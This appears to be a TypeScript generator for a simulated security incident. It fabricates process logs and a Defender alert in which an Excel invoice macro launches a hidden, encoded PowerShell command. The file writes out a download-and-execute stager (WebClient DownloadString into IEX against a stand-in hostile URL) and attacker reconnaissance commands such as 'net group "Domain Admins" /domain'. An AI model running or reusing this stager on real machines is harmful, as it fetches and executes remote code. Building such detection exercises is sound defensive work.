import { logOn } from '../events/logon';
import { on } from '../moment';
import { CAST, HOSTILE } from './cast';
import { encodedCommand, TOOLS } from './encoded-command';
import type { Stage, Told } from './stage';

/** What the encoded command says; it fetches text from a reserved name that nobody can register. */
export const STAGER =
  `$u='${HOSTILE.stageUrl}';$w=New-Object Net.WebClient;` +
  `$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString($u)`;

/** The processes that later chapters descend from. */
export interface Foothold {
  readonly shell: Told;
  readonly document: Told;
  readonly stager: Told;
}

const openDay = (stage: Stage): Told => {
  const { patientZero: host, victimAccount: account } = CAST;
  const { log } = stage;
  const session = logOn(log, host, on(15, '07:48:12.4410000'), {
    account,
    logonId: stage.logon(host),
    type: 2,
  });
  const { winlogon } = stage.systemAt(host, on(15, '07:48:00'));
  const { system32 } = TOOLS;
  const userinit = stage.start(
    winlogon,
    on(15, '07:48:13.1020000'),
    `${system32}userinit.exe`,
    'C:\\Windows\\system32\\userinit.exe',
    session,
  );
  return stage.start(
    userinit,
    on(15, '07:48:13.8840000'),
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
  );
};

const discover = (stage: Stage, stager: Told): void => {
  const looks = [
    ['09:31:02.1170000', 'whoami.exe', 'whoami /all'],
    ['09:31:09.6620000', 'systeminfo.exe', 'systeminfo'],
    ['09:31:31.0940000', 'ipconfig.exe', 'ipconfig /all'],
    ['09:32:15.7310000', 'nltest.exe', 'nltest /dclist:corp.larkmoor.example'],
    ['09:32:48.2030000', 'net.exe', 'net group "Domain Admins" /domain'],
    ['09:33:20.9150000', 'net.exe', 'net view \\\\FS01 /all'],
  ] as const;
  for (const [time, tool, command] of looks)
    stage.start(stager, on(15, time), TOOLS.system32 + tool, command);
};

const raiseAlert = (stage: Stage, document: Told, stager: Told): void => {
  stage.alert({
    key: 'alert encoded powershell',
    name: 'Suspicious PowerShell command line',
    severity: 'High',
    description: 'PowerShell was started by an Office document with a hidden window and an encoded command.',
    product: 'Microsoft Defender for Cloud',
    type: 'VM_SuspiciousPowershell',
    start: stager.started,
    end: on(15, '09:26:21'),
    tactics: 'Execution',
    techniques: ['T1059.001', 'T1204.002'],
    about: CAST.patientZero.name,
    remediation: [
      'Look at what the encoded command does.',
      'Isolate the machine if nobody knows the command.',
    ],
    properties: {
      'Command Line': stager.command,
      'Parent Process': document.path,
      'User Name': 'LARKMOOR\\p.lindqvist',
    },
    entities: (graph) => {
      const parent = graph.process(document, document.command);
      graph.process(stager, stager.command, parent);
      graph.url(HOSTILE.stageUrl);
    },
  });
};

/** Chapter 2, 15 September 09:26: the invoice is opened and its macro runs an encoded command on FIN-WS07. */
export function foothold(stage: Stage): Foothold {
  const shell = openDay(stage);
  const { system32, powershell, cmd } = TOOLS;
  const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
  const outlook = stage.start(
    shell,
    on(15, '07:51:40.2180000'),
    `${office}OUTLOOK.EXE`,
    `"${office}OUTLOOK.EXE"`,
  );
  const file =
    'C:\\Users\\p.lindqvist\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2KX0ZD\\Invoice_4471.xlsm';
  const document = stage.start(
    outlook,
    on(15, '09:26:03.2170000'),
    `${office}EXCEL.EXE`,
    `"${office}EXCEL.EXE" /dde "${file}"`,
  );
  const line = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand ${encodedCommand(STAGER)}`;
  const launcher = stage.start(document, on(15, '09:26:19.5530000'), cmd, `cmd.exe /c ${line}`);
  const stager = stage.start(launcher, on(15, '09:26:19.9040000'), powershell, line);
  stage.start(
    stager,
    on(15, '09:26:20.0110000'),
    `${system32}conhost.exe`,
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
  );
  discover(stage, stager);
  raiseAlert(stage, document, stager);
  return { shell, document, stager };
}
